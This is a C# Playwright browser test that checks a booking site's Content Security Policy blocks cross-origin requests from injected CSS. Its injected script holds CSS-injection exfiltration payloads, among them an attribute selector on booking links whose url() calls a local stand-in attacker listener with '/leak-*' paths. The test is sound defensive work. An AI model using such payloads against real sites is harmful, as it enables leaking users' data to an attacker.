using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using Microsoft.Playwright;

namespace ManageBooking.BrowserTests;

/// <summary>
/// Chromium enforces the site's CSP: CSS that reaches a page anyway (injected into the DOM, not through the sanitiser)
/// cannot load anything from another origin, so an attribute selector on a manage link has nowhere to send it.
/// </summary>
public sealed class ContentSecurityPolicyTests : IClassFixture<BrowserSite>
{
    private readonly BrowserSite _site;

    public ContentSecurityPolicyTests(BrowserSite site) => _site = site;

    [Fact]
    public async Task CrossOriginUrlsInCss_AreBlockedAndNeverRequested()
    {
        using var attacker = new TcpListener(IPAddress.Loopback, 0);
        attacker.Start();
        var origin = $"http://127.0.0.1:{((IPEndPoint)attacker.LocalEndpoint).Port}";
        var connections = 0;
        _ = Task.Run(async () =>
        {
            try
            {
                while (true)
                {
                    using var socket = await attacker.AcceptSocketAsync();
                    Interlocked.Increment(ref connections);
                }
            }
            catch (Exception e) when (e is SocketException or ObjectDisposedException)
            {
                // The test is over.
            }
        });
        await using var context = await _site.Browser.NewContextAsync();
        var page = await context.NewPageAsync();
        await page.GotoAsync(new Uri(_site.Site.Address, "book/30-minute-meeting").ToString());

        await page.EvaluateAsync(
            """
            origin => {
              window.violations = [];
              document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective + ' ' + e.blockedURI));
              const style = document.createElement('style');
              style.textContent = `a[href^="/book"]{background:url(${origin}/leak-style-element)}`;
              document.head.appendChild(style);
              const sheet = document.createElement('link');
              sheet.rel = 'stylesheet';
              sheet.href = `${origin}/leak-stylesheet.css`;
              document.head.appendChild(sheet);
              const box = document.createElement('div');
              box.setAttribute('style', `background:url(${origin}/leak-style-attribute)`);
              document.body.appendChild(box);
              document.body.style.backgroundImage = `url(${origin}/leak-cssom)`;
              const image = new Image();
              image.src = `${origin}/leak-image`;
              document.body.appendChild(image);
            }
            """,
            origin);
        await page.WaitForFunctionAsync(
            "() => ['style-src-elem inline', 'style-src-elem http', 'style-src-attr inline', 'img-src http'].every(start => window.violations.some(v => v.startsWith(start)))"
            + " && ['leak-stylesheet', 'leak-cssom', 'leak-image'].every(leak => window.violations.some(v => v.includes(leak)))");

        var violations = (await page.EvaluateAsync<JsonElement>("() => window.violations")).EnumerateArray().Select(v => v.GetString()!).ToList();
        Assert.Contains("style-src-elem inline", violations); // the injected <style> with its attribute selector
        Assert.Contains(violations, v => v.StartsWith("style-src-elem", StringComparison.Ordinal) && v.Contains("leak-stylesheet", StringComparison.Ordinal));
        Assert.Contains("style-src-attr inline", violations);
        Assert.Contains(violations, v => v.StartsWith("img-src", StringComparison.Ordinal) && v.Contains("leak-cssom", StringComparison.Ordinal));
        Assert.Contains(violations, v => v.StartsWith("img-src", StringComparison.Ordinal) && v.Contains("leak-image", StringComparison.Ordinal));
        Assert.Equal(0, connections);
    }
}
